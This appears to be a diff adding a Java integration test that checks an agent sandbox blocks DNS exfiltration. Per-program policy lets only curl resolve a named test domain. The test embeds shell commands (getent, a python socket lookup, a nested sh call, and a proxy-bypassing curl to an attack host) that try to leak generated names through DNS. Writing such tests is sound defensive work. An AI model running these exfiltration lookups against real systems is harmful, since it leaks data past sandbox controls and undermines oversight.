@@ -162,6 +162,27 @@ class DnsExfiltrationAttackIT {
     }
 
     @Test
+    void theSandboxDnsLooksUpANameOnlyForAProgramThePolicyLetsReachIt() throws Exception {
+        String getent = exfil("curl-only.test");
+        String python = exfil("curl-only.test");
+        String viaShell = exfil("curl-only.test");
+        String curl = exfil("curl-only.test");
+
+        // **.curl-only.test is named by the policy, but only for curl
+        AgentShell.Result answer = sh("getent ahostsv4 " + getent + "; echo rc=$?");
+        sh("python3 -c \"import socket; socket.gethostbyname('" + python + "')\"");
+        sh("sh -c 'getent hosts " + viaShell + "'");
+        // curl resolves the name itself when it ignores the proxy: looked up (an unknown name)
+        AgentShell.Result control = sh("curl -sS --noproxy '*' " + attack.https(curl, "/"));
+
+        assertThat(answer.output()).contains("rc=2");
+        assertThat(attack.lookupsOf(getent)).isZero();
+        assertThat(attack.lookupsOf(python)).isZero();
+        assertThat(attack.lookupsOf(viaShell)).isZero();
+        assertThat(attack.lookupsOf(curl)).as(control.output()).isPositive();
+    }
+
+    @Test
     void aReloadThatRemovesAnEndpointStopsItsLookups() throws Exception {
         String withEndpoint = POLICY.replace(
                 "- {host: api.test, port: HTTP_PORT, allowed_ips: [10.95.0.0/24]}",
